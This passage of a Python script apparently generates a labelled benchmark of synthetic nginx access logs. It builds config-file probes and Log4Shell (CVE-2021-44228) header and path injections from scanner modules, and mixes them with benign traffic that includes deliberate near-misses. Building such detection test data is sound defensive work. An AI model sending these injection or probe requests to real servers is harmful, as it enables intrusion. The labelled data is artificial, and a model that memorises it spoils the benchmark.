                    hdr[h] = ff(raw)
            url = ff(v['url']).format(**data)
            if 'NETTACKER_MD5_GENERATOR_START' in url:
                url = md5_interceptor(url)
            if 'dependent_on_temp_event' in url:
                url = url.replace("dependent_on_temp_event[0]['content'][0]", GEOSERVER_TYPENAME)
            body = None
            if v['body'] is not None:
                body = repo.need(path, v['body'])
            out.append(Cand(name, cat, path, v['step'], v['method'], url, hdr, body, v['place'], v['json']))
        C[name] = out
    # scan/config_file: the config file names, one GET each
    path = SCAN + 'config_file.yaml'
    repo.need(path, CONFIG_TMPL)
    repo.need(path, 'read_from_file: wordlists/config_wordlist.txt')
    scheme, port = first_scheme_port(repo.show(path), CONFIG_TMPL)
    C['scan/config_file'] = [Cand('scan/config_file', 'file-probe', path, '1.1', 'GET',
                                  ff(CONFIG_TMPL).format(schema=scheme, ports=port, urls=w), {}, None, 'url')
                             for w in repo.show(CONFIG_LIST).split('\n') if w]
    # log4j: steps 2-8 send each header of the list alone (the list multiplies the sub-steps),
    # crossed with four paths; the token is the one log4shell.huntress.com handed out in step 1
    text = repo.show(LOG4J)
    repo.need(LOG4J, LOG4J_VALUE)
    for p in LOG4J_PATHS:
        repo.need(LOG4J, '- "%s"' % p)
    steps = re.split(r'\n      - method: ', text)[1:]
    token = str(uuid.UUID(int=fr.getrandbits(128), version=4))
    out = []
    for n, st in enumerate(steps, 1):
        method = st.split('\n', 1)[0].strip().upper()
        names = re.findall(r'\n          - ([A-Za-z0-9-]+): "' + re.escape(LOG4J_VALUE) + '"', st)
        if not names:
            continue
        scheme, port = first_scheme_port(st, '{{schema}}://{target}:{{ports}}/{{path}}')
        for h in names:
            if h in LOG4J_SKIP_HEADERS:
                continue
            for p in LOG4J_PATHS:
                val = ff(LOG4J_VALUE).replace("dependent_on_temp_event[0]['content'][0]", token)
                url = ff('{{schema}}://{target}:{{ports}}/{{path}}').format(
                    schema=scheme, ports=port, path=ff(p).replace("dependent_on_temp_event[0]['content'][0]", token))
                out.append(Cand('log4j_cve_2021_44228', 'log4shell', LOG4J, '1.%d' % n, method, url, {h: val}, None,
                                'url+header' if p and not p.startswith('#') else 'header'))
    C['log4j_cve_2021_44228'] = out
    # distinct requests only
    for m in C:
        seen, keep = set(), []
        for c in C[m]:
            if c.key() not in seen:
                seen.add(c.key())
                keep.append(c)
        C[m] = (keep, len(C[m]))
    return C


# ----------------------------------------------------------------- user agents, statuses, sizes, escaping
# (copied from ../thirdparty20/gen.py, which took them from ../thirdparty19 and 18: the User-Agent strings, the sizes, nginx's escaping)
# Desktop browsers current at the start of December 2026 (the strings of ../thirdparty16 and 17).
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'chw4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'chl': "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:157.0) Gecko/20100101 Firefox/157.0",
 'ffw6': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:156.0) Gecko/20100101 Firefox/156.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:157.0) Gecko/20100101 Firefox/157.0",
 'ffl': "Mozilla/5.0 (X11; Linux x86_64; rv:157.0) Gecko/20100101 Firefox/157.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.1 Safari/605.1.15",
 'sfm0': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.0 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36 Edg/155.0.0.0",
 'edg4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/154.0.0.0 Safari/537.36 Edg/154.0.0.0",
 'edm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Safari/537.36 Edg/155.0.0.0",
 # phones: benign traffic only
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/27.1 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/155.0.0.0 Mobile Safari/537.36",
}
DESKTOP = ['chw', 'chw', 'chw', 'chw4', 'chm', 'chm', 'chl', 'ffw', 'ffw', 'ffw6', 'ffm', 'ffl',
           'sfm', 'sfm', 'sfm0', 'edg', 'edg', 'edg4', 'edm']
ANY_BROWSER = DESKTOP + ['ios', 'ios', 'and', 'and']

def weighted(r, pairs):
    x = r.random() * sum(w for _, w in pairs)
    for v, w in pairs:
        x -= w
        if x < 0:
            return v
    return pairs[-1][0]

ASSET_EXT = ('.css', '.js', '.svg', '.png', '.jpg', '.webp', '.woff2', '.ico', '.avif', '.gif')

def size(r, st, target='', method='GET'):
    path = target.split('?', 1)[0]
    if method == 'HEAD' or st == 304:
        return 0
    if st == 200 and path.endswith(ASSET_EXT):
        return r.randint(2400, 160000)
    if st == 200 and path.startswith('/api/'):
        return r.randint(90, 9000)
    if st == 200:
        return r.randint(1800, 42000)
    if st in (403, 404):
        return r.choice([153, 555])
    return r.randint(177, 4200)       # 500

def esc(s):
    """nginx's escaping of a logged field: '"', '\\' and bytes outside 0x20-0x7e as \\xXX"""
    out = []
    for c in s.encode('utf-8', 'surrogateescape'):
        if c == 0x22 or c == 0x5c or c < 0x20 or c > 0x7e:
            out.append('\\x%02X' % c)
        else:
            out.append(chr(c))
    return ''.join(out)

def line(ip, t, request, st, sz, ref, ua, header_esc=esc):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), esc(request),
                                                st, sz, header_esc(ref), header_esc(ua))


# ----------------------------------------------------------------- benign browsing
# (copied from ../thirdparty20/gen.py, whose skeleton and sites come from ../thirdparty18)  Each benign source is one person
# with one browser on one of five kinds of site: a page, its assets (with the page as Referer,
# some revalidated as 304), then more pages, searches or API calls.  Several requests brush
# against the attack types without being attacks: products called "Select Fit Chinos" or
# "Red Alert Beanie", searches for select, script, union, alert, people called O'Connor /
# O'Reilly / O'Brien (the apostrophe raw or encoded), blog posts about .env files and
# /etc/passwd, docs pages about printf format strings (%s, %n, %x) and searches for them,
# docs pages reached from a wiki whose URL carries a relative "../" path (Referer).  The i-th
# source of a kind takes the i-th near-miss.
def qp(s):
    return urllib.parse.quote_plus(s)

def qc(s):
    """encodeURIComponent: leaves A-Z a-z 0-9 - _ . ! ~ * ' ( ) as they are"""
    return urllib.parse.quote(s, safe="-_.!~*'()")

SHOP = 'https://shop.example.net'
SHOP_ITEMS = ['select-fit-chinos', 'union-canvas-tote', 'script-lettering-mug', 'red-alert-beanie',
              'drop-shoulder-hoodie', 'exec-leather-folio', 'cat-eye-sunglasses', 'linen-table-runner']
SHOP_CATS = ['trousers', 'bags', 'kitchen', 'hats', 'hoodies', 'leather', 'eyewear', 'kitchen']   # of SHOP_ITEMS
SHOP_Q = ['select fit chinos', 'union canvas tote', 'script lettering mug', 'red alert beanie']

def shop(r, i):
    cat, item = SHOP_CATS[i], SHOP_ITEMS[i]
    first = r.choice(['-', 'https://www.google.com/', 'https://duckduckgo.com/', 'https://www.bing.com/'])
    out = [('GET', '/', first, 200),
           ('GET', '/static/shop.5b7e01.css', SHOP + '/', 200),
           ('GET', '/static/shop.c90d3a.js', SHOP + '/', 200)]
    if i % 2 == 0:
        via = '/search?q=' + qp(SHOP_Q[i // 2]) + '&sort=relevance'
    else:
        via = '/c/' + cat + '?page=' + str(r.randint(1, 3))
    out.append(('GET', via, SHOP + '/', 200))
    out.append(('GET', '/p/' + item, SHOP + via, 200))
    out.append(('GET', '/media/p/%s/800w.avif' % item, SHOP + '/p/' + item, 200))
    if i % 4 == 1:
        name = ["Siobhan O'Connor", "Dara O'Reilly"][i // 4]
        out.append(('GET', '/api/reviews?sku=%s&author=%s' % (item, qc(name)), SHOP + '/p/' + item, 200))
    if i % 4 == 3:
        out.append(('POST', '/basket/add', SHOP + '/p/' + item, 200))
    return out

BLOG = 'https://notes.example.org'
BLOG_POSTS = ['2026/11/why-your-.env-file-ended-up-on-github', '2026/10/reading-etc-passwd-without-fear',
              '2026/09/select-star-considered-harmful', '2026/11/alert-fatigue-and-how-we-fixed-it',
              '2026/08/union-types-for-humans', '2026/10/shell-scripting-with-arrays']
BLOG_Q = ['alert fatigue', '.env', "o'reilly", 'union types']

def blog(r, i):
    post = BLOG_POSTS[i % len(BLOG_POSTS)]
    url = '/%s/' % post
    ref = r.choice(['https://www.google.com/', 'https://news.ycombinator.com/', '-', 'https://mastodon.social/'])
    out = [('GET', url, ref, 200),
           ('GET', '/assets/main.8f21.css', BLOG + url, 200),
           ('GET', '/assets/fonts/inter-var.woff2', BLOG + '/assets/main.8f21.css', 200),
           ('GET', '/assets/img/%s.jpg' % post.rsplit('/', 1)[-1], BLOG + url, 200)]
    if i % 2:
        out.append(('GET', '/search/?q=' + qp(BLOG_Q[i // 2]), BLOG + url, 200))
    out.append(('GET', '/tags/security/', BLOG + url, 200))
    other = r.choice([p for p in BLOG_POSTS if p != post])
    out.append(('GET', '/%s/' % other, BLOG + '/tags/security/', 200))
    return out

DOCS = 'https://docs.example.org'
DOC_PAGES = ['/manual/sql/select-and-union', '/manual/html/script-element', '/manual/c/printf-format-strings',
             '/manual/linux/etc-passwd-fields', '/manual/c/format-specifiers-%25s-%25d-%25x', '/manual/config/dotenv',
             '/manual/js/alert-confirm-prompt', '/manual/python/str-format-%25-operator']
DOC_Q = ['select statement', 'script defer', 'printf %s %d', 'alert dialog', '/etc/passwd fields',
         '%n format specifier', "O'Reilly", '.env file']
# an intranet wiki and a markdown preview link to the docs; their own URLs carry a relative
# path with ../ in the query (browsers resolve ../ in a path, not in a query)
DOC_EXT_REF = ['https://wiki.example.com/view?page=../handbook/onboarding&rev=12',
               'https://preview.example.com/render?file=docs/../README.md',
               'https://wiki.example.com/view?page=team/../../shared/tooling']

def docs(r, i):
    p1, p2 = DOC_PAGES[i], r.choice([p for p in DOC_PAGES if p != DOC_PAGES[i]])
    first = DOC_EXT_REF[i // 3] if i % 3 == 0 else r.choice(['-', 'https://www.google.com/'])
    out = [('GET', '/manual/', first, 200),
           ('GET', '/_static/theme.31ad.css', DOCS + '/manual/', 200),
           ('GET', '/_static/search.31ad.js', DOCS + '/manual/', 200),
           ('GET', '/search?q=' + qp(DOC_Q[i]) + '&check_keywords=yes', DOCS + '/manual/', 200),
           ('GET', p1, DOCS + '/search', 200)]
    if i % 2 == 0:
        out.append(('GET', '/_static/searchindex.js', DOCS + '/search', 200))
    out.append(('GET', p2, DOCS + p1, 200))
    return out

FORUM = 'https://talk.example.net'
FORUM_THREADS = ['t/how-do-i-union-two-select-queries/7312', 't/alert-box-never-shows-on-safari/7409',
                 't/script-runs-twice-after-navigation/7550', 't/what-is-the-x-in-etc-passwd/7188',
                 't/dropped-a-table-by-mistake-any-way-back/7621', 't/env-file-not-loaded-in-docker/7705']
FORUM_USERS = ['niamh.ohara', 'p_oreilly', 'select_all_sam', 'unionjack']

def forum(r, i):
    th = FORUM_THREADS[i % len(FORUM_THREADS)]
    tid = th.rsplit('/', 1)[-1]
    out = [('GET', '/latest', r.choice(['-', 'https://www.google.com/']), 200),
           ('GET', '/assets/app-2c9e.css', FORUM + '/latest', 200),
           ('GET', '/assets/app-2c9e.js', FORUM + '/latest', 200),
           ('GET', '/' + th, FORUM + '/latest', 200),
           ('GET', '/%s.json?track_visit=true' % th, FORUM + '/' + th, 200)]
    if i % 2 == 0:
        out.append(('GET', '/u/%s/summary' % FORUM_USERS[i // 2], FORUM + '/' + th, 200))
    else:
        q = ["O'Hara", 'union select', 'alert not showing', 'script twice'][i // 2]
        out.append(('GET', '/search?q=' + qc(q), FORUM + '/' + th, 200))
    out.append(('GET', '/t/%s/posts.json?post_ids%%5B%%5D=%d' % (tid, r.randint(30000, 39999)), FORUM + '/' + th, 200))
    return out

HELP = 'https://help.example.com'
HELP_Q = ["O'Brien", "O'Neill", "D'Souza", 'select plan', 'union dues', 'alert emails', 'script error', 'drop shipping']

def helpdesk(r, i):
    a = HELP + '/agent/'
    tid = r.randint(40000, 49999)
    out = [('GET', '/agent/', r.choice(['-', HELP + '/login']), 200),
           ('GET', '/agent/static/desk.e4b1.js', a, 200),
           ('GET', '/agent/static/desk.77f0.css', a, 200),
           ('GET', '/api/v2/views?active=true', a, 200),
           ('GET', '/api/v2/tickets?view=open&per_page=25', a, 200),
           ('GET', '/api/v2/search?q=%s&type=ticket' % qc(HELP_Q[i]), a + 'search', 200)]
    extra = [('GET', '/api/v2/tickets/%d' % tid, a + 'tickets/%d' % tid, 200),
             ('PATCH', '/api/v2/tickets/%d' % tid, a + 'tickets/%d' % tid, 200),
             ('GET', '/api/v2/users?query=%s' % qp(HELP_Q[i].split()[0]), a + 'tickets/%d' % tid, 200)]
    out += r.sample(extra, 1 + i % 2)
    return out

BENIGN_KINDS = [('shop-browse', shop, 8), ('blog-reader', blog, 8), ('docs-search', docs, 8),
                ('forum-reader', forum, 8), ('helpdesk-json-api', helpdesk, 8)]







# ----------------------------------------------------------------- addresses (from ../thirdparty20/gen.py)
def other_sets_addresses():
    """source addresses of every other set's log: tests/bench/data/*/*.log and tests/e2e/data"""
    here = os.path.basename(OUT)
    files = sorted(glob.glob(os.path.join(OUT, '..', '*', '*.log')))
    e2e = os.path.normpath(os.path.join(OUT, '..', '..', '..', 'e2e', 'data'))
    files += sorted(glob.glob(os.path.join(e2e, '**', '*.log'), recursive=True))
    others = set()
    for f in files:
        if os.path.basename(os.path.dirname(f)) == here:
            continue
        with open(f, encoding='utf-8', errors='replace') as fh:
            for l in fh:
                others.add(l.split(' ', 1)[0])
    return others

def pick_v6(r, used, net):
    while True:
        base = int(net.network_address)
        if r.random() < 0.75:
            v = base + (r.getrandbits(16) << 64) + r.getrandbits(64)      # random interface id
        else:
            v = base + (r.getrandbits(16) << 64) + r.randint(1, 0x3ff)    # a small static address
        ip = ipaddress.IPv6Address(v).compressed
        if ip not in used:
            used.add(ip)
            return ip

def ipkey(s):
    ip = ipaddress.ip_address(s)
    return (ip.version, int(ip))

# ----------------------------------------------------------------- checks
FIELD = r'((?:[\x20\x21\x23-\x5b\x5d-\x7e]|\\x[0-9A-F]{2})*)'
LOG_RX = re.compile(r'^(\S+) - - \[(\d{2}/[A-Z][a-z]{2}/\d{4}:\d{2}:\d{2}:\d{2} \+0000)\] "' + FIELD +
                    r'" (\d{3}) (\d+) "' + FIELD + r'" "' + FIELD + r'"$')
REQ_RX = re.compile(r'^([A-Z]+) (/[\x21-\x7e]*) HTTP/1\.1$')
UA_DESKTOP = re.compile(r'^Mozilla/5\.0 \((Windows NT 10\.0; Win64; x64|Macintosh; Intel Mac OS X [\d_.]+|X11; Linux x86_64)')


ATTACK_METHODS = ('GET', 'POST', 'HEAD', 'OPTIONS', 'PUT', 'PATCH', 'DELETE')

def check(others=None):
    ok = True
    def bad(msg):
        nonlocal ok
        ok = False
        print('check: ' + msg)
    addrs, cats, methods = {}, {}, collections.Counter()
    for kind in ('attacks', 'benign'):
        net = ATTACK_NET if kind == 'attacks' else BENIGN_NET
        with open(os.path.join(OUT, kind + '.log'), encoding='ascii') as f:
            rows = f.read().split('\n')
        if rows[-1] != '':
            bad('%s.log does not end with a newline' % kind)
        prev = None
        seen = collections.Counter()
        for n, l in enumerate(rows[:-1], 1):
            m = LOG_RX.match(l)
            if not m:
                bad('%s.log:%d does not parse as combined' % (kind, n))
                continue
            ip, ts, req, st, ref, ua = m.group(1), m.group(2), m.group(3), m.group(4), m.group(6), m.group(7)
            try:
                if ipaddress.ip_address(ip) not in net:
                    bad('%s.log:%d address %s is not in %s' % (kind, n, ip, net))
            except ValueError:
                bad('%s.log:%d bad address %r' % (kind, n, ip))
            if not REQ_RX.match(req):
                bad('%s.log:%d request line has a raw space or a bad form: %s' % (kind, n, req[:80]))
            t = datetime.datetime.strptime(ts, '%d/%b/%Y:%H:%M:%S +0000')
            if t.date() != DAY.date() or (prev and t < prev):
                bad('%s.log:%d time out of order or off the day' % (kind, n))
            prev = t
            if kind == 'attacks':
                meth = req.split(' ', 1)[0]
                methods[meth] += 1
                if meth not in ATTACK_METHODS:
                    bad('attacks.log:%d method %s' % (n, meth))
                if ref != '-':
                    bad('attacks.log:%d Referer is not -' % n)
                if not UA_DESKTOP.match(ua):
                    bad('attacks.log:%d User-Agent %r is not a desktop browser' % (n, ua[:40]))
                if st not in ('200', '400', '403', '404', '500'):
                    bad('attacks.log:%d status %s' % (n, st))
                if meth == 'HEAD' and m.group(5) != '0':
                    bad('attacks.log:%d HEAD with a body size' % n)
            seen[ip] += 1
        labels = collections.Counter()
        with open(os.path.join(OUT, kind + '.labels'), encoding='ascii') as f:
            for l in f.read().split('\n')[:-1]:
                parts = l.split('\t')
                want = 4 if kind == 'attacks' else 3
                if len(parts) != want or parts[1] != ('attack' if kind == 'attacks' else 'benign'):
                    bad('%s.labels: bad line %r' % (kind, l))
                    continue
                labels[parts[0]] += 1
                if kind == 'attacks':
                    cats[parts[0]] = parts[2]
                    if parts[2] not in CATEGORIES:
                        bad('attacks.labels: unknown category %r' % parts[2])
        if set(labels) != set(seen) or any(v != 1 for v in labels.values()):
            bad('%s.labels do not cover the addresses of %s.log exactly once' % (kind, kind))
        if kind == 'attacks' and any(v != 1 for v in seen.values()):
            bad('an attacking source sends more than one request')
        addrs[kind] = set(seen)
        print('check: %s.log %d lines, %d sources, all parse' % (kind, sum(seen.values()), len(seen)))
    with open(os.path.join(OUT, 'requests.tsv'), encoding='ascii') as f:
        rows = f.read().split('\n')
    head = rows[0].split('\t')
    tsv = {}
    for x in rows[1:-1]:
        c = dict(zip(head, x.split('\t')))
        if len(x.split('\t')) != len(head):
            bad('requests.tsv: a row with %d fields' % len(x.split('\t')))
        tsv[c['ADDRESS']] = c
        if c.get('COMMIT') != COMMIT:
            bad('requests.tsv: commit of %s' % c['ADDRESS'])
    if set(tsv) != addrs['attacks'] or len(rows) - 2 != len(tsv):
        bad('requests.tsv does not have one row per attacking address')
    with open(os.path.join(OUT, 'attacks.log'), encoding='ascii') as f:
        for l in f:
            m = LOG_RX.match(l.rstrip('\n'))
            if m and m.group(1) in tsv:
                c = tsv[m.group(1)]
                if c['REQUEST_LINE'] != m.group(3) or c['METHOD'] != m.group(3).split(' ')[0]:
                    bad('requests.tsv: request line of %s differs from the log' % m.group(1))
                if cats.get(m.group(1)) != c['CATEGORY']:
                    bad('requests.tsv: category of %s differs from the labels' % m.group(1))
    both = addrs['attacks'] & addrs['benign']
    if both:
        bad('%d addresses are both attack and benign' % len(both))
    if others is None:
        others = other_sets_addresses()
    clash = (addrs['attacks'] | addrs['benign']) & others
    print('check: %d addresses here, %d in other sets\' logs, %d shared, %d attack/benign overlap'
          % (len(addrs['attacks'] | addrs['benign']), len(others), len(clash), len(both)))
    if clash:
        bad('shared with other sets: %s' % ' '.join(sorted(clash)[:10]))
    def in_blk(a):
        try:
            return ipaddress.ip_address(a) in BLOCK
        except ValueError:
            return False
    theirs = sorted(a for a in others if in_blk(a))
    print('check: %d addresses of other sets in %s' % (len(theirs), BLOCK))
    if theirs:
        bad('other sets use %s: %s' % (BLOCK, ' '.join(theirs[:10])))
    print('check: methods %s' % ', '.join('%s %d' % kv for kv in sorted(methods.items())))
    print('check: places %s' % ', '.join('%s %d' % kv for kv in sorted(collections.Counter(
        c['PAYLOAD_PLACE'] for c in tsv.values()).items())))
    print('check: categories %s' % ', '.join('%s %d' % (c, n) for c, n in
                                             sorted(collections.Counter(cats.values()).items())))
    print('check: %s' % ('all passed' if ok else 'FAILED'))
    return ok


# ----------------------------------------------------------------- sampling
def sample(C):
    r = random.Random(SAMPLE_SEED)
    chosen = []
    for m, (cs, total) in C.items():
        idx = sorted(r.sample(range(len(cs)), min(CAP, len(cs))))
        chosen += [cs[i] for i in idx]
    return chosen

def technique(c):
    return c.module.split('/', 1)[1] + '_scan' if c.module.startswith('scan/') else c.module

def short(s, n=160):
    return s if len(s) <= n else s[:60] + '...(%d characters)' % len(s)


# An attack's status: the site does not run these products, so mostly not found; some
# refused, some answered by a catch-all page, some errors.
STATUS_ATTACK = [(404, 68), (403, 10), (200, 14), (500, 8)]


# ----------------------------------------------------------------- write
def main():
    args = [a for a in sys.argv[1:] if not a.startswith('--')]
    if '--check-only' in sys.argv:
        sys.exit(0 if check() else 1)
    if len(args) != 1:
        sys.exit('usage: gen.py MIRROR [--check|--pools|--dump]  or  gen.py --check-only')
    repo = Repo(args[0])
    fr = random.Random(FILL_SEED)
    C = candidates(repo, fr)
    if '--dump' in sys.argv:
        for m, (cs, total) in C.items():
            for c in cs:
                print('\t'.join([m, c.step, c.method, c.url, c.wire, c.place]))
        return
    chosen = sample(C)
    if '--pools' in sys.argv:
        n = collections.Counter(c.module for c in chosen)
        for m, (cs, total) in C.items():
            print('%-38s sub-steps %5d  distinct %5d  sampled %d' % (m, total, len(cs), n[m]))
        return
    r = random.Random(SEED)
    r.shuffle(chosen)
    used, others = set(), other_sets_addresses()
    used |= others
    secs = sorted(r.sample(range(60, 86340), len(chosen)))
    lines, labels, rows = [], [], []
    for c, s in zip(chosen, secs):
        assert ' ' not in c.wire and c.wire.startswith('/'), c.wire
        ip = pick_v6(r, used, ATTACK_NET)
        t = DAY + datetime.timedelta(seconds=s)
        st = weighted(r, STATUS_ATTACK)
        sz = size(r, st, c.wire, c.method)
        if any(len(h) + 2 + len(v) > 8192 for h, v in c.hdr.items()):
            st, sz = 400, 233     # nginx: a header line over large_client_header_buffers (8k) -> 400 "Request Header Or Cookie Too Large"
        req = '%s %s HTTP/1.1' % (c.method, c.wire)
        lines.append(line(ip, t, req, st, sz, '-', UA[r.choice(DESKTOP)]))
        labels.append((ip, '%s\tattack\t%s\t%s' % (ip, c.category, technique(c))))
        hdrs = ' | '.join('%s: %s' % (h, short(v)) for h, v in sorted(c.hdr.items())) or '-'
        rows.append((ip, '\t'.join([ip, c.category, c.path, c.step, c.method, esc(req), c.place, esc(hdrs),
                                    'yes' if c.body else 'no', esc(short(c.body, 200)) if c.body else '-',
                                    esc(c.url), COMMIT])))
    blines, blabels = [], []
    for kind, fn, count in BENIGN_KINDS:
        for i in range(count):
            ip = pick_v6(r, used, BENIGN_NET)
            ua = UA[r.choice(ANY_BROWSER)]
            tt = DAY + datetime.timedelta(seconds=r.randint(15 * 60, 23 * 3600))
            for method, target, ref, st in fn(r, i):
                asset = target.split('?')[0].endswith(ASSET_EXT)
                tt += datetime.timedelta(seconds=r.randint(0, 2) if asset else r.randint(3, 90))
                if asset and st == 200 and r.random() < 0.2:
                    st = 304
                blines.append((tt, line(ip, tt, '%s %s HTTP/1.1' % (method, target), st, size(r, st, target, method),
                                        ref, ua)))
            blabels.append((ip, '%s\tbenign\t%s' % (ip, kind)))
    blines.sort(key=lambda x: x[0])
    assert blines[-1][0] < DAY + datetime.timedelta(days=1)
    srt = lambda xs: [v for _, v in sorted(xs, key=lambda x: ipkey(x[0]))]
    out = {
        'attacks.log': lines,
        'attacks.labels': srt(labels),
        'requests.tsv': ['ADDRESS\tCATEGORY\tMODULE_FILE\tSTEP\tMETHOD\tREQUEST_LINE\tPAYLOAD_PLACE\tPAYLOAD_HEADERS'
                         '\tBODY\tBODY_PIECE\tURL_AS_BUILT\tCOMMIT'] + srt(rows),
        'benign.log': [l for _, l in blines],
        'benign.labels': srt(blabels),
    }
    for fname, xs in out.items():
        with open(os.path.join(OUT, fname), 'w', encoding='ascii', newline='\n') as f:
            f.write(''.join(x + '\n' for x in xs))
    cnt = collections.Counter(c.category for c in chosen)
    print('wrote %d attacking sources (%s), %d benign sources, %d benign lines'
          % (len(lines), ', '.join('%s %d' % kv for kv in sorted(cnt.items())), len(blabels), len(blines)))
    if '--check' in sys.argv:
        sys.exit(0 if check(others) else 1)

if __name__ == '__main__':
    main()
